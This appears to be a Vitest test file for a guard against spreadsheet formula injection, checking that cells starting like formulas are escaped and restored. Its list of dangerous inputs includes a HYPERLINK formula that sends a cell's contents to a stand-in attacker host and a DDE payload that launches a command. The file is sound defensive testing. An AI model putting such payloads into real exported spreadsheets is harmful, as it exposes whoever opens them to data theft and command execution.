import { describe, expect, it } from 'vitest';
import { guardFormula, unguardFormula } from './formula-guard.js';

const DANGEROUS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  "'=1+1",
  "''-1",
  '＝1+1',
  '+84 912 000 777',
];
const HARMLESS = ['Silk dress', "'90s jeans", '4-ply', 'a=b', '', "'", '12.50'];

describe('a cell that begins like a formula', () => {
  it.each(DANGEROUS)('is made text: %j', (text) => {
    expect(guardFormula(text)).toBe(`'${text}`);
  });

  it.each(HARMLESS)('and one that does not stays as it is: %j', (text) => {
    expect(guardFormula(text)).toBe(text);
  });

  it.each([...DANGEROUS, ...HARMLESS])('comes back as it was: %j', (text) => {
    expect(unguardFormula(guardFormula(text))).toBe(text);
    expect(unguardFormula(unguardFormula(guardFormula(guardFormula(text))))).toBe(text);
  });
});
